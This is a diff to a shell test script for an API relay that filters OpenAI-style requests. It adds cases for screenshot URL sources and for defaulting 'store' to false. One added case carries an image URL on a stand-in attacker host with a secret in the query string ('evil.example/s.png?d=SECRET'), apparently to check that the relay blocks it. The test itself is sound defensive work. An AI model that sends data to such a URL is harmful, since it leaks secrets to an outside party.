@@ -117,6 +117,8 @@ oai_background|/v1/responses|background|{"model":"x","background":true}
 oai_previous|/v1/responses|stored_state|{"model":"x","previous_response_id":"resp_1"}
 oai_store|/v1/responses|store|{"model":"x","store":true}
 chat_web_search|/v1/chat/completions|web_search|{"model":"x","web_search_options":{}}
+oai_computer_screenshot|/v1/responses|url_source|{"model":"x","input":[{"type":"computer_call_output","call_id":"c1","output":{"type":"computer_screenshot","image_url":"https://evil.example/s.png?d=SECRET"}}]}
+oai_store_null|/v1/responses|store|{"model":"x","store":null}
 CASES
 )
 while IFS='|' read -r name path feature body; do
@@ -135,6 +137,27 @@ while IFS='|' read -r name path feature body; do
   out=$(run allow sh -c "python3 $T_TMP/pub/rc.py --json \"\$(cat $T_TMP/pub/$name.json)\" POST $path" 2>&1)
   is "$name: control: with relay.allow: [$feature] it is forwarded" "$(statuses <<<"$out"),$(count)" "200,1"
 done <<<"$cases"
+
+# a computer_call_output screenshot inline (data:) is no URL: forwarded
+: >fake.log
+out=$(run rules python3 "$T_TMP/pub/rc.py" --json '{"model":"x","input":[{"type":"computer_call_output","call_id":"c1","output":{"type":"computer_screenshot","image_url":"data:image/png;base64,iVBORw0KGgo="}}]}' POST /v1/responses 2>&1)
+is "control: a computer_call_output screenshot as a data: URL is forwarded" "$(statuses <<<"$out"),$(count)" "200,1"
+
+# store: a Responses request that omits it reaches the vendor with store: false
+: >fake.log
+out=$(run rules sh -c "python3 $T_TMP/pub/rc.py --json '{\"model\":\"s1\",\"input\":\"hi\"}' POST /v1/responses;
+  python3 $T_TMP/pub/rc.py --json '{\"model\":\"s2\",\"store\":false}' POST /v1/responses;
+  python3 $T_TMP/pub/rc.py --json '{\"model\":\"s3\"}' POST /v1/chat/completions" 2>&1)
+is "store cases: all forwarded" "$(statuses <<<"$out")" "200,200,200"
+is "omitted store reaches the Responses API as false; store: false as sent; Chat Completions untouched" \
+  "$(python3 -c 'import json,sys; print(" ".join(str(json.loads(l)["store"]) for l in open(sys.argv[1]) if "\"store\"" in l))' fake.log)" \
+  "False False absent"
+like "the relay log says what it set" "$(grep '"model":"s1"' relay.log)" '"set":"store=false"'
+policy storeok "" "      allow: [store]"
+: >fake.log
+run storeok python3 "$T_TMP/pub/rc.py" --json '{"model":"s4","input":"hi"}' POST /v1/responses >/dev/null 2>&1
+is "control: with relay.allow: [store] the body is forwarded as sent (store absent)" \
+  "$(python3 -c 'import json,sys; print(json.loads(open(sys.argv[1]).readline())["store"])' fake.log)" "absent"
 
 # the refusal is in the vendor's error shape, so the agent's SDK shows it
 out=$(run rules python3 "$T_TMP/pub/rc.py" --json "$(cat pub/web_search.json)" POST /v1/messages 2>&1)
